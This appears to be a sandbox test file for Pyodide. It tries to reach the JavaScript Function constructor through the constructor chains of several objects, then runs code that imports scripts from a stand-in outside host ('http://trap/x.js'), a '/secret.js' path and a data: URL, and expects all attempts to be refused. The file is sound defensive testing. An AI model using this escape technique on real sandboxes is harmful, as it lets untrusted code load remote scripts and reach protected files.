"""Import a script of another host or of this site by whatever makes functions.

Ends: done
Prints: refused all
"""

from pyodide.ffi import run_sync, to_js
from pyodide.webloop import scheduleCallback

array = to_js([1])
for start in (array.map, scheduleCallback, array.values().next, array.constructor):
    maker = start
    for _ in range(3):
        maker = getattr(maker, "constructor", None)
        for script in ("http://trap/x.js", "/secret.js", "data:text/javascript,1"):
            try:
                run_sync(maker(f"return import('{script}')")())
                print("REACHED", script)
            except Exception:
                pass
print("refused all")
